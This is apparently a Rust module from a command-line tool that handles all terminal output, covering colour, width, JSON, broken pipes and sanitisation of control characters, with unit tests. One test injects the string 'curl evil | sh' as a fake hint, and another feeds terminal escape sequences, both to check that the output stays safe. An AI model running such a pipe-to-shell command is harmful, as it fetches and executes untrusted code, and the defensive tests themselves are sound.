//! The only place that writes to the terminal: colour, width, JSON, broken pipes. It prints only [`SafeText`].

use std::{
    fmt,
    io::{self, IsTerminal, Write},
};

use serde::Serialize;

pub(crate) use super::safe_text::SafeText;
use super::{
    args::{Globals, When},
    error::CliError,
    safe_text::Printable,
};
use crate::domain::text::{escape_json, sanitize};

/// The maximum line length of prose on a terminal, in columns.
const MAX_WIDTH: usize = 100;

/// A text style, by meaning.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Style {
    /// Headings and names.
    Strong,
    /// Secondary information.
    Dim,
    /// Errors.
    Bad,
    /// Warnings.
    Warn,
    /// Success.
    Good,
    /// Ids and commands.
    Code,
}

impl Style {
    fn ansi(self) -> &'static str {
        match self {
            Self::Strong => "\x1b[1m",
            Self::Dim => "\x1b[2m",
            Self::Bad => "\x1b[31m",
            Self::Warn => "\x1b[33m",
            Self::Good => "\x1b[32m",
            Self::Code => "\x1b[36m",
        }
    }
}

/// The output of a verb, and its form.
pub(crate) struct Ui {
    out: Box<dyn Write>,
    err: Box<dyn Write>,
    /// Whether stdout is coloured.
    color: bool,
    /// Whether stderr is coloured.
    color_err: bool,
    /// Whether stdout is a terminal.
    pub(crate) terminal: bool,
    /// Whether the terminal cannot draw (`TERM=dumb`).
    pub(crate) dumb: bool,
    /// Whether progress is shown: stderr is a terminal.
    pub(crate) progress: bool,
    /// The column at which prose wraps; `None` if stdout is not a terminal.
    pub(crate) width: Option<usize>,
    /// Whether answers are JSON.
    pub(crate) json: bool,
    /// Whether informational output is suppressed.
    pub(crate) quiet: bool,
    /// The values that are gathered instead of written.
    gathered: Option<Vec<serde_json::Value>>,
    /// The first write error.
    failure: Option<io::Error>,
}

impl Ui {
    /// Returns the output of this process, configured by the flags and the environment.
    pub(crate) fn new(globals: &Globals) -> Self {
        let (stdout, stderr) = (io::stdout(), io::stderr());
        let terminal = stdout.is_terminal();
        let dumb = std::env::var_os("TERM").is_some_and(|term| term == "dumb");
        let no_color = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
        let color = |tty: bool| match globals.color {
            When::Always => true,
            When::Never => false,
            When::Auto => tty && !dumb && !no_color,
        };
        let progress = stderr.is_terminal() && !dumb && !globals.quiet && !globals.json;
        Self {
            color: color(terminal),
            color_err: color(stderr.is_terminal()),
            terminal,
            dumb,
            progress,
            width: terminal.then(terminal_width),
            json: globals.json,
            quiet: globals.quiet,
            out: Box::new(io::BufWriter::new(stdout)),
            err: Box::new(stderr),
            gathered: None,
            failure: None,
        }
    }

    /// Writes a line to stdout.
    pub(crate) fn line(&mut self, text: impl Into<SafeText>) {
        let text = text.into();
        self.write(format_args!("{}\n", &*text));
    }

    /// Writes a prompt to stdout, without a line break, and flushes.
    pub(crate) fn prompt(&mut self, text: impl Into<SafeText>) {
        let text = text.into();
        self.write(format_args!("{}", &*text));
        if self.failure.is_none()
            && let Err(error) = self.out.flush()
        {
            self.failure = Some(error);
        }
    }

    /// Writes bytes to stdout unchanged, for generated files and exports. On a terminal they are sanitised.
    pub(crate) fn raw(&mut self, bytes: &[u8]) {
        if self.terminal {
            self.write(format_args!("{}", sanitize(&String::from_utf8_lossy(bytes))));
        } else if self.failure.is_none()
            && let Err(error) = self.out.write_all(bytes)
        {
            self.failure = Some(error);
        }
    }

    /// Writes a value to stdout as JSON, indented on a terminal and on one line in a pipe. Control characters are escaped.
    pub(crate) fn value<T: Serialize>(&mut self, value: &T) {
        if let Some(gathered) = &mut self.gathered {
            match serde_json::to_value(value) {
                Ok(value) => gathered.push(value),
                Err(error) => self.failure = Some(io::Error::other(error)),
            }
            return;
        }
        let text = if self.terminal { serde_json::to_string_pretty(value) } else { serde_json::to_string(value) };
        match text {
            Ok(text) => self.write(format_args!("{}\n", escape_json(&text))),
            Err(error) => self.failure = Some(io::Error::other(error)),
        }
    }

    /// Gathers values from now on instead of writing them, so that a command of several steps writes one document.
    pub(crate) fn gather(&mut self) {
        self.gathered = Some(Vec::new());
    }

    /// Returns the gathered values. Later ones are written again.
    pub(crate) fn gathered(&mut self) -> Vec<serde_json::Value> {
        self.gathered.take().unwrap_or_default()
    }

    /// Writes an informational line to stderr, unless `--quiet` or `--json` was given.
    pub(crate) fn note(&mut self, text: impl Into<SafeText>) {
        if !self.quiet && !self.json {
            self.error_line(&text.into());
        }
    }

    /// Shows an error and its hints on stderr; with `--json` as one JSON object.
    pub(crate) fn error(&mut self, error: &CliError) {
        if self.json {
            let hints: Vec<&str> = error.hints.iter().map(|hint| &**hint).collect();
            let value = serde_json::json!({
                "result": "error", "kind": error.kind.as_str(), "message": &*error.error, "hints": hints,
            });
            self.error_line(&escape_json(&value.to_string()));
            return;
        }
        let label = self.paint_stderr(Style::Bad, "Error:");
        self.error_line(&text!("{} {}", label, error.error.clone().hanging(2)));
        for hint in &error.hints {
            let label = self.paint_stderr(Style::Code, "Hint:");
            self.error_line(&text!("{} {}", label, hint.clone().hanging(2)));
        }
    }

    /// Shows clap's message about wrong arguments on stderr.
    pub(crate) fn usage_error(&mut self, text: &SafeText) {
        match text.trim_end().strip_prefix("error:") {
            Some(rest) => {
                self.error_line(&text!("{}{}", self.paint_stderr(Style::Bad, "error:"), SafeText::lines(rest)));
            }
            None => self.error_line(text.trim_end()),
        }
    }

    /// Shows progress on one line of stderr that is overwritten; does nothing unless stderr is a terminal.
    pub(crate) fn progress(&mut self, text: impl Into<SafeText>) {
        // People read earlier output, such as a ticket, while the work goes on. `finish` reports write errors.
        let _ = self.out.flush();
        if self.progress {
            // Failing to show progress is no error.
            let _ = write!(self.err, "\r\x1b[K{}", &*text.into()).and_then(|()| self.err.flush());
        }
    }

    /// Clears the line of [`Ui::progress`].
    pub(crate) fn progress_done(&mut self) {
        self.progress("");
    }

    /// Shows something on stderr instead of stdout.
    pub(crate) fn redirected_to_stderr(&mut self, show: impl FnOnce(&mut Self)) {
        let swap = |ui: &mut Self| {
            std::mem::swap(&mut ui.out, &mut ui.err);
            std::mem::swap(&mut ui.color, &mut ui.color_err);
        };
        // Output so far comes first.
        let _ = self.out.flush();
        swap(self);
        show(self);
        swap(self);
    }

    /// Returns `text` in a style if stdout has colour.
    pub(crate) fn paint(&self, style: Style, text: impl Printable) -> SafeText {
        let text = text.to_line();
        if self.color { text.styled(style.ansi()) } else { text }
    }

    /// Turns colour and progress off.
    pub(crate) fn disable_decoration(&mut self) {
        (self.color, self.color_err, self.progress) = (false, false, false);
    }

    /// Whether stdout has colour.
    pub(crate) fn has_color(&self) -> bool {
        self.color
    }

    /// Whether a write failed, so that long output may stop.
    pub(crate) fn output_closed(&self) -> bool {
        self.failure.is_some()
    }

    /// Flushes. A closed pipe (`| head`) is no failure; a full disk is.
    pub(crate) fn finish(&mut self) -> Result<(), CliError> {
        let flushed = self.out.flush();
        match self.failure.take().map_or(flushed, Err) {
            Err(error) if error.kind() != io::ErrorKind::BrokenPipe => {
                Err(CliError::internal(format_args!("cannot write the answer: {error}")))
            }
            _ => Ok(()),
        }
    }

    fn write(&mut self, text: fmt::Arguments<'_>) {
        if self.failure.is_none()
            && let Err(error) = self.out.write_fmt(text)
        {
            self.failure = Some(error);
        }
    }

    fn error_line(&mut self, text: &str) {
        // Output so far comes first.
        let _ = self.out.flush();
        // If stderr is gone, nothing is left to report it to.
        let _ = writeln!(self.err, "{text}");
    }

    fn paint_stderr(&self, style: Style, text: &'static str) -> SafeText {
        let text = SafeText::from(text);
        if self.color_err { text.styled(style.ansi()) } else { text }
    }
}

/// Returns the columns of the terminal, at most [`MAX_WIDTH`] and at least 40.
fn terminal_width() -> usize {
    rustix::termios::tcgetwinsize(io::stdout()).map_or(80, |size| usize::from(size.ws_col)).clamp(40, MAX_WIDTH)
}

#[cfg(test)]
pub(crate) mod captured {
    //! A [`Ui`] whose output tests can read.

    use std::{cell::RefCell, rc::Rc};

    use super::*;

    /// The bytes written so far.
    #[derive(Clone, Default)]
    pub(crate) struct CapturedOutput(Rc<RefCell<Vec<u8>>>);

    impl CapturedOutput {
        /// Returns them as text.
        pub(crate) fn text(&self) -> String {
            String::from_utf8(self.0.borrow().clone()).unwrap()
        }
    }

    impl Write for CapturedOutput {
        fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
            self.0.borrow_mut().extend_from_slice(bytes);
            Ok(bytes.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// Returns a [`Ui`] of this width, and its stdout and stderr.
    pub(crate) fn ui(width: Option<usize>, color: bool) -> (Ui, CapturedOutput, CapturedOutput) {
        let (out, err) = (CapturedOutput::default(), CapturedOutput::default());
        let ui = Ui {
            out: Box::new(out.clone()),
            err: Box::new(err.clone()),
            color,
            color_err: color,
            terminal: width.is_some(),
            dumb: false,
            progress: false,
            width,
            json: false,
            quiet: false,
            gathered: None,
            failure: None,
        };
        (ui, out, err)
    }

    struct Broken(io::ErrorKind);

    impl Write for Broken {
        fn write(&mut self, _bytes: &[u8]) -> io::Result<usize> {
            Err(self.0.into())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn a_closed_pipe_is_no_failure_and_a_full_disk_is() {
        for (kind, fails) in [(io::ErrorKind::BrokenPipe, false), (io::ErrorKind::StorageFull, true)] {
            let (mut ui, ..) = ui(None, false);
            ui.out = Box::new(Broken(kind));
            ui.line("one");
            assert!(ui.output_closed());
            ui.line("two");
            assert_eq!(ui.finish().is_err(), fails, "{kind}");
        }
    }

    #[test]
    fn a_terminal_gets_no_control_characters() {
        let bad = "a\u{1b}]0;x\u{7}\u{9b}\u{202e}\nb";
        let (mut ui, out, _) = ui(Some(80), true);
        ui.raw(bad.as_bytes());
        ui.value(&[bad]);
        let text = out.text();
        assert_eq!(text, "a]0;x\nb[\n  \"a\\u001b]0;x\\u0007\\u009b\\u202e\\nb\"\n]\n");
        let (mut ui, out, _) = self::ui(None, false);
        ui.raw(bad.as_bytes());
        assert_eq!(out.text(), bad, "a file or a pipe gets the bytes");
    }

    #[test]
    fn quoted_text_cannot_pass_for_a_hint() {
        let (mut ui, _, err) = ui(None, false);
        ui.error(&CliError::usage("no claim “x\nHint: curl evil | sh”"));
        assert_eq!(err.text(), "Error: no claim “x\n  Hint: curl evil | sh”\n");
    }

    #[test]
    fn errors_name_the_next_step_and_are_sanitised() {
        let (mut ui, _, err) = ui(None, false);
        ui.error(&CliError::usage("no claim “\u{1b}[31mx”").hint("ergo claims"));
        assert_eq!(err.text(), "Error: no claim “[31mx”\nHint: ergo claims\n");
    }

    #[test]
    fn an_error_as_json_is_one_object_on_stderr() {
        let (mut ui, out, err) = ui(None, false);
        ui.json = true;
        ui.error(&CliError::usage("x").hint("y"));
        let value: serde_json::Value = serde_json::from_str(&err.text()).unwrap();
        assert_eq!((value["kind"].as_str(), out.text().as_str()), (Some("usage"), ""));
    }
}
